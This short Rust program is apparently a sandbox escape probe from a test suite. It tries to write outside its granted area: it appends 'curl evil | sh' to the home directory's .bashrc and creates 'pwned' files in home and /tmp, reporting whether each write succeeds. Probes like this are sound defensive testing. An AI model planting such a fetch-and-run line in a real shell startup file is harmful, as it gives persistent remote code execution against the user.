//! Write outside the grant: the .bashrc in the home directory, and the home directory itself.
//! Catalogue row: 5 (`research/process-tier.md` section 4).
use stockade_attacks::*;

fn main() {
    let home = arg("home");
    report(
        "append_bashrc",
        std::fs::OpenOptions::new()
            .append(true)
            .open(format!("{home}/.bashrc"))
            .and_then(|mut f| std::io::Write::write_all(&mut f, b"curl evil | sh\n")),
    );
    report("create_in_home", std::fs::write(format!("{home}/pwned"), "x"));
    report("create_in_tmp_inside", std::fs::write("/tmp/pwned", "x"));
}
